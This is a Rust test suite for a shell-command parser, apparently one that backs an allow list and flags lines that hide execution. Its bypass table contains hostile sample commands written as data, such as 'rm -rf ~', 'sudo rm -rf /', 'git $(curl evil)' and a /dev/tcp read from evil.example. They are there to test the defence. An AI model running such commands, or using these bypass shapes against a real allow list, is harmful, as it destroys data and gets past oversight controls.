    const TABLE: &[(&str, &[&str], bool)] = &[
        // Every separator and group shows its commands.
        ("git status && rm -rf ~", &["git", "rm"], true),
        ("echo hi; sh", &["echo", "sh"], false),
        ("ls\nrm x", &["ls", "rm"], false),
        ("ls | sh", &["ls", "sh"], false),
        ("ls & rm x", &["ls", "rm"], false),
        ("a || b", &["a", "b"], false),
        ("(cd /; rm -rf x)", &["cd", "rm"], false),
        ("{ ls; rm x; }", &["ls", "rm"], false),
        ("if true; then rm x; fi", &["true", "rm"], false),
        (
            "if a; then b; elif c; then d; else e; fi",
            &["a", "b", "c", "d", "e"],
            false,
        ),
        ("for f in *; do rm $f; done", &["rm"], true),
        ("while :; do rm x; done", &[":", "rm"], false),
        ("until false; do rm x; done", &["false", "rm"], false),
        ("case x in x) rm y;; esac", &["rm"], false),
        ("case x in (a|b) ls;; *) rm y;; esac", &["ls", "rm"], false),
        ("! rm x", &["rm"], false),
        ("time ls", &["time", "ls"], false),
        ("time -p ls | wc -l", &["time", "ls", "wc"], false),
        ("rm -rf ~ &", &["rm"], true),
        ("git log --outp${x}ut=f", &["git"], true),
        ("git log ${x:---output=f}", &["git"], true),
        ("cat {a,b}", &["cat"], true),
        ("echo {1..3}", &["echo"], true),
        ("echo '{a,b}' \"$\"", &["echo"], false),
        ("ls;", &["ls"], false),
        ("cd x && git status", &["cd", "git"], false),
        ("ls |& grep x", &["ls", "grep"], false),
        ("[[ -f x ]] && rm x", &["[[", "rm"], false),
        ("[ -f x ] && rm x", &["[", "rm"], false),
        ("ls -la # && rm x", &["ls"], false),
        ("echo \"it's\" # $(id)", &["echo"], false),
        ("r\\\nm x", &["rm"], false),
        // Quoted operators are arguments.
        ("ls '&&' id", &["ls"], false),
        ("ls \"&&\" id", &["ls"], false),
        ("ls \\&\\& id", &["ls"], false),
        ("ls ';' rm x", &["ls"], false),
        ("ls X=1", &["ls"], false),
        ("/bin/ls -la", &["/bin/ls"], false),
        ("\"ls\" -la", &["ls"], false),
        ("git log --format='%H %s'", &["git"], false),
        ("echo $((1 + 2)) \"$HOME/x\" ${x:-a}", &["echo"], true),
        ("read line < f; echo $line", &["read", "echo"], true),
        ("set -euo pipefail; ls", &["set", "ls"], false),
        ("printf '%s\\n' x", &["printf"], false),
        // Wrappers are listed by their own names, not opaque.
        ("sudo rm -rf /", &["sudo"], false),
        ("env rm x", &["env"], false),
        ("xargs rm < list", &["xargs"], false),
        ("find . -exec rm {} +", &["find"], false),
        // Redirections that write nothing and input redirections are fine.
        ("ls > /dev/null 2>&1", &["ls"], false),
        ("ls 2>/dev/null", &["ls"], false),
        ("ls &>/dev/null", &["ls"], false),
        ("ls 2>&1 | grep x > /dev/null", &["ls", "grep"], false),
        ("ls 2>&1- 3>&-", &["ls"], false),
        ("sort < in", &["sort"], false),
        ("(ls) 2>/dev/null", &["ls"], false),
        // Nothing to run.
        ("", &[], false),
        ("  \n ", &[], false),
        ("# a comment only", &[], false),
        // Substitutions, outside single quotes.
        ("git $(curl evil)", &["git"], true),
        ("echo `id`", &["echo"], true),
        ("echo \"$(id)\"", &["echo"], true),
        ("echo '$(id)'", &["echo"], false),
        ("echo \"\\$(id)\"", &["echo"], false),
        ("cat <(curl x)", &["cat"], true),
        ("tee >(sh) < f", &["tee"], true),
        ("echo ${x:-$(id)}", &["echo"], true),
        ("echo $(( $(id) + 1 ))", &["echo"], true),
        ("x=$(id) ls", &["ls"], true),
        // Commands that run text as commands or redefine names.
        ("eval ls", &["eval"], true),
        ("exec ls", &["exec"], true),
        ("source f", &["source"], true),
        (". f", &["."], true),
        ("command ls", &["command"], true),
        ("builtin echo x", &["builtin"], true),
        ("trap 'rm x' EXIT", &["trap"], true),
        ("alias ls=rm", &["alias"], true),
        ("hash -p /bin/rm ls; ls x", &["hash", "ls"], true),
        // Assignments.
        ("LD_PRELOAD=x ls", &["ls"], true),
        ("X=1", &[], true),
        ("export PATH=/tmp; ls", &["export", "ls"], true),
        ("for PATH in /tmp; do ls; done", &["ls"], true),
        ("read PATH < f; ls", &["read", "ls"], true),
        ("printf -v x y", &["printf"], true),
        ("set -k; ls", &["set", "ls"], true),
        ("echo ${x=1}", &["echo"], true),
        // Text that bash evaluates as code.
        ("for x in 'a[$(id)]'; do echo $((x)); done", &["echo"], true),
        ("read x < f; [[ $x -eq 1 ]]", &["read", "[["], true),
        ("[ 'a[$(id)]' -eq 1 ]", &["["], true),
        ("for x in a; do echo ${!x}; done", &["echo"], true),
        // Function definitions, here-documents, coprocesses.
        ("f() { rm x; }", &["rm"], true),
        ("function f { rm x; }", &["rm"], true),
        ("cat <<EOF\nhi\nEOF", &["cat"], true),
        ("cat <<< hi", &["cat"], true),
        ("coproc ls", &["ls"], true),
        // Output redirections.
        ("ls > out", &["ls"], true),
        ("ls >> log", &["ls"], true),
        ("ls >| f", &["ls"], true),
        ("ls 2> err", &["ls"], true),
        ("ls &> out", &["ls"], true),
        ("ls >&out", &["ls"], true),
        ("ls <> f", &["ls"], true),
        ("{ ls; } > out", &["ls"], true),
        ("ls > $f", &["ls"], true),
        ("ls &>/dev/null rm x", &["ls"], true),
        ("cat < /dev/tcp/evil.example/80", &["cat"], true),
        // Names that are not literal.
        ("$cmd x", &["$cmd"], true),
        ("\"$x\" y", &["\"$x\""], true),
        ("~/bin/tool x", &["~/bin/tool"], true),
        ("r* x", &["r*"], true),
        ("{rm,-rf,x}", &["{rm,-rf,x}"], true),
        // Syntax bash and POSIX sh read differently.
        ("$'rm' x", &["$'rm'"], true),
        ("((rm x))", &[], true),
        ("for ((i=0; i<2; i++)); do rm x; done", &["rm"], true),
        // Lines that cannot be parsed.
        ("echo 'x", &[], true),
        ("echo \"x", &[], true),
        ("ls; then", &[], true),
        ("ls 99999999999>x", &[], true),
        ("ls ~+99999999999999999999", &[], true),
    ];

    #[test]
    fn bypass_table() {
        let mut failures = Vec::new();
        for (line, names, opaque) in TABLE {
            let result = analyze(line);
            let got: Vec<&str> = result.commands.iter().map(|c| c.name.as_str()).collect();
            if got != *names || result.opaque != *opaque {
                failures.push(format!(
                    "{line:?}: got {got:?} opaque={} ({:?}), want {names:?} opaque={opaque}",
                    result.opaque, result.why_opaque
                ));
            }
            assert_eq!(result.opaque, result.why_opaque.is_some(), "{line:?}");
            for command in &result.commands {
                assert_eq!(command.argv.first(), Some(&command.name), "{line:?}");
            }
        }
        assert!(failures.is_empty(), "{}", failures.join("\n"));
        assert!(TABLE.len() >= 30);
    }

    #[test]
    fn an_allow_list_is_not_passed_by_a_second_command() {
        let allowed = |line: &str| {
            let result = analyze(line);
            !result.opaque
                && result
                    .commands
                    .iter()
                    .all(|c| ["git", "ls"].contains(&c.name.as_str()))
        };
        assert!(allowed("git status && ls -la"));
        for line in [
            "git status && rm -rf ~",
            "git status; rm -rf ~",
            "git status\nrm -rf ~",
            "git status | sh",
            "ls & rm x",
            "ls || (rm x)",
            "git status $(rm x)",
            "ls `rm x`",
            "if ls; then rm x; fi",
            "sudo git status",
            "/usr/bin/git status",
        ] {
            assert!(!allowed(line), "{line:?}");
        }
    }

    fn argv(line: &str) -> Vec<Vec<String>> {
        analyze(line).commands.into_iter().map(|c| c.argv).collect()
    }

    #[test]
    fn words_are_unquoted_when_literal_and_as_written_otherwise() {
        assert_eq!(argv("ls '&&' id"), [["ls", "&&", "id"]]);
        assert_eq!(argv("ls \\&\\& \\;"), [["ls", "&&", ";"]]);
        assert_eq!(
            argv("git log --format='%H %s'"),
            [["git", "log", "--format=%H %s"]]
        );
        assert_eq!(
            argv("ls -la 'a b' \"c d\" e\\ f a'b'\"c\""),
            [["ls", "-la", "a b", "c d", "e f", "abc"]]
        );
        assert_eq!(
            argv("echo \"a\\\"b\" 'c\\' d"),
            [["echo", "a\"b", "c\\", "d"]]
        );
        assert_eq!(argv("rm -rf ~ *"), [["rm", "-rf", "~", "*"]]);
        assert_eq!(
            argv("echo \"$HOME/x\" ${y} $((1+2))"),
            [["echo", "\"$HOME/x\"", "${y}", "$((1+2))"]]
        );
        assert_eq!(argv("/bin/ls -la"), [["/bin/ls", "-la"]]);
        assert_eq!(argv("ls X=1"), [["ls", "X=1"]]);
        assert_eq!(argv("ls \\\n  -la"), [["ls", "-la"]]);
        assert_eq!(argv("\"r\\\nm\" x"), [["rm", "x"]]);
        assert_eq!(argv("ls > /dev/null 2>&1 -a"), [["ls", "-a"]]);
        assert_eq!(
            argv("[[ -f x && ! -d 'a b' ]]"),
            [["[[", "-f", "x", "&&", "!", "-d", "a b", "]]"]]
        );
        assert_eq!(argv("time -p ls"), [vec!["time", "-p"], vec!["ls"]]);
    }

    #[test]
    fn opaque_lines_say_why() {
        let why = |line: &str| analyze(line).why_opaque.unwrap_or_default();
        assert!(why("git $(curl evil)").contains("command substitution"));
        assert!(why("LD_PRELOAD=x ls").contains("LD_PRELOAD=x"));
        assert!(why("ls > out").contains("`out`"));
        assert!(why("echo 'x").contains("cannot be parsed"));
        assert!(why("$cmd x").contains("`$cmd`"));
        assert!(why("eval ls").contains("`eval`"));
    }

    #[test]
    fn serializes_as_commands_and_opaque() {
        let value = serde_json::to_value(analyze("ls -la > out")).unwrap();
        assert_eq!(
            value,
            serde_json::json!({"commands": [{"name": "ls", "argv": ["ls", "-la"]}], "opaque": true})
        );
    }

    #[test]
    fn bounds_keep_the_parser_inside_its_stack_and_time() {
        // Deep but legal nesting parses (on the parser's own stack).
        let deep = format!("{}ls;{}", "{ ".repeat(900), " }".repeat(900));
        let result = analyze(&deep);
        assert_eq!((result.commands.len(), result.opaque), (1, false));
        // More nesting openers than MAX_NESTING, or a huge line: opaque without parsing.
        let deeper = format!(
            "{}ls;{}",
            "{ ".repeat(MAX_NESTING + 1),
            " }".repeat(MAX_NESTING + 1)
        );
        assert!(analyze(&deeper).opaque);
        assert!(analyze(&"x ".repeat(MAX_LINE_BYTES)).opaque);
        // Shapes on which the grammar backtracks exponentially are refused by the paren bound
        // (each would take minutes at this depth).
        for line in [
            format!("(( {} x ; {}", "(".repeat(30), ")".repeat(32)),
            format!("{}ls", "(".repeat(40)),
            format!("[[ x =~ {}a", "( ".repeat(40)),
        ] {
            let result = analyze(&line);
            assert!(result.opaque, "{line}");
        }
    }

    #[test]
    fn table_lines_never_fail_the_parser() {
        for (line, _, _) in TABLE {
            for variant in [
                line.to_string(),
                format!("{line}; ls"),
                format!("ls && {line}"),
                format!("( {line} )"),
            ] {
                let result = analyze(&variant);
                assert_ne!(
                    result.why_opaque.as_deref(),
                    Some(PARSER_FAILED),
                    "{variant:?}"
                );
                assert_eq!(analyze(&variant), result, "deterministic: {variant:?}");
            }
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        #[test]
        fn random_ascii_never_fails_the_parser(line in "[ -~\n\t]{0,60}") {
            let result = analyze(&line);
            prop_assert_ne!(result.why_opaque.as_deref(), Some(PARSER_FAILED));
            prop_assert_eq!(result.opaque, result.why_opaque.is_some());
            for command in &result.commands {
                prop_assert_eq!(command.argv.first(), Some(&command.name));
            }
        }

        #[test]
        fn random_shell_text_never_fails_the_parser(
            line in r"([a-z]|[ ;&|()<>{}$'`!#*?=~\n\\-]|\x22|\(\(|\$\(|\$\{|\[\[|\]\]|if |then |fi|do |done|case |esac|in ){0,40}"
        ) {
            let result = analyze(&line);
            prop_assert_ne!(result.why_opaque.as_deref(), Some(PARSER_FAILED));
            prop_assert_eq!(result.opaque, result.why_opaque.is_some());
        }
    }

    struct Gen<'r> {
        rng: &'r mut rand::rngs::StdRng,
        depth: usize,
    }

    impl Gen<'_> {
        fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
            use rand::Rng;
            items[self.rng.random_range(0..items.len())]
        }
        fn chance(&mut self, p: f64) -> bool {
            use rand::Rng;
            self.rng.random_bool(p)
        }
        fn simple(&mut self) -> String {
            let mut out = String::new();
            if self.chance(0.05) {
                out.push_str("! ");
            }
            out.push_str(self.pick(&["a", "b", "c", "'a'", "\\c", "\"b\""]));
            let n = if self.chance(0.5) { 0 } else { 3 };
            for _ in 0..n {
                out.push(' ');
                out.push_str(self.pick(&[
                    "x",
                    "'y z'",
                    "\"w\"",
                    "\\;",
                    "'&&'",
                    "\"|\"",
                    "X=1",
                    "-n",
                    "$v",
                    "\\&\\&",
                    "'#'",
                    "a#b",
                    "\"a;b\"",
                    ">/dev/null",
                    "2>&1",
                    "</dev/null",
                    "#c a",
                    "';'",
                    "'('",
                    "\\(",
                    "\")\"",
                    "a\\\nb",
                ]));
            }
            out
        }
        fn list(&mut self) -> String {
            let mut out = self.command();
            while self.chance(0.5) {
                out.push_str(self.pick(&["; ", " && ", " || ", " | ", " & ", "\n", " ;\n "]));
                out.push_str(&self.command());
            }
            out
        }
        fn command(&mut self) -> String {
            if self.depth > 3 || self.chance(0.6) {
                return self.simple();
            }
            self.depth += 1;
            let choice = self.pick(&["sub", "brace", "if", "while", "for", "case", "until"]);
            let out = match choice {
                "sub" => format!("( {} )", self.list()),
                "brace" => format!("{{ {}; }}", self.list()),
                "if" => format!(
                    "if {}; then {}; else {}; fi",
                    self.list(),
                    self.list(),
                    self.list()
                ),
                "while" => format!("while b; do {}; done", self.list()),
                "until" => format!("until a; do {}; done", self.list()),
                "for" => format!("for v in x 'y z'; do {}; done", self.list()),
                _ => format!("case x in x) {};; *) {};; esac", self.list(), self.list()),
            };
            self.depth -= 1;
            out
        }
    }

    /// Runs generated lines in real shells (dash and bash) with stub commands `a`, `b`, `c`
    /// that log their argv, and checks that every command a shell ran is one `analyze` listed
    /// for a line it did not call opaque. `TW_DIFF=N` lines (200), `TW_SEED`.
    #[test]
    fn differential_against_real_shells() {
        use rand::SeedableRng;
        for shell in ["/usr/bin/dash", "/usr/bin/bash", "/usr/bin/timeout"] {
            assert!(
                std::path::Path::new(shell).exists(),
                "{shell} is missing: the differential test needs dash, bash and coreutils (apt-get install dash bash coreutils)"
            );
        }
        let n: usize = std::env::var("TW_DIFF").map_or(200, |n| n.parse().unwrap());
        let dir = std::env::temp_dir().join(format!("tw-shell-diff-{}", std::process::id()));
        let bin = dir.join("bin");
        std::fs::create_dir_all(&bin).unwrap();
        for (name, code) in [("a", 0), ("b", 1), ("c", 0)] {
            let path = bin.join(name);
            std::fs::write(
                &path,
                format!("#!/bin/sh\nprintf '%s\\0' \"${{0##*/}}\" \"$@\" END >> \"$TW_LOG\"\nexit {code}\n"),
            )
            .unwrap();
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        let mut rng = rand::rngs::StdRng::seed_from_u64(
            std::env::var("TW_SEED")
                .map(|s| s.parse().unwrap())
                .unwrap_or(7),
        );
        let (mut checked, mut opaque) = (0, 0);
        for i in 0..n {
            let line = Gen {
                rng: &mut rng,
                depth: 0,
            }
            .list();
            let result = analyze(&line);
            if result.opaque {
                opaque += 1;
                continue;
            }
            checked += 1;
            for shell in ["/usr/bin/dash", "/usr/bin/bash"] {
                // Background jobs may outlive the shell: a log of its own for each run.
                let log = dir.join(format!("log-{i}-{}", shell.len()));
                std::process::Command::new("/usr/bin/timeout")
                    .args(["2", shell, "-c", &line])
                    .env_clear()
                    .env("PATH", &bin)
                    .env("TW_LOG", &log)
                    .current_dir(&dir)
                    .stdin(std::process::Stdio::null())
                    .stdout(std::process::Stdio::null())
                    .stderr(std::process::Stdio::null())
                    .status()
                    .unwrap();
                let ran = std::fs::read(&log).unwrap_or_default();
                let fields: Vec<String> = ran
                    .split(|b| *b == 0)
                    .map(|f| String::from_utf8_lossy(f).into_owned())
                    .collect();
                for argv in fields
                    .split(|f| f == "END")
                    .filter(|r| !r.is_empty() && !r[0].is_empty())
                {
                    let listed = result.commands.iter().any(|c| {
                        c.name == argv[0]
                            && (c.argv.iter().any(|a| a.contains('$') || a.contains('~'))
                                || c.argv == argv)
                    });
                    assert!(
                        listed,
                        "{shell} ran {argv:?} for {line:?}, analyze listed {:?}",
                        result.commands
                    );
                }
            }
        }
        println!("checked {checked}, opaque {opaque}");
        std::fs::remove_dir_all(&dir).unwrap();
    }
}
